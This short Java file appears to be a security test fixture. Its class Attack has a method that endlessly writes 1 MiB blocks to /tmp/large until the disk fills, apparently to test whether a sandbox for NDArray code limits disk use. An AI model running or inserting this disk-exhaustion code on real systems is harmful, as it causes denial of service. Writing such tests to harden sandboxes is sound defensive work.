package t;

import ai.djl.ndarray.NDArray;
import java.io.FileOutputStream;

public final class Attack {
  public static NDArray attack(NDArray x) throws Exception {
    try (var out = new FileOutputStream("/tmp/large")) {
      while (true) out.write(new byte[1 << 20]);
    }
  }
}
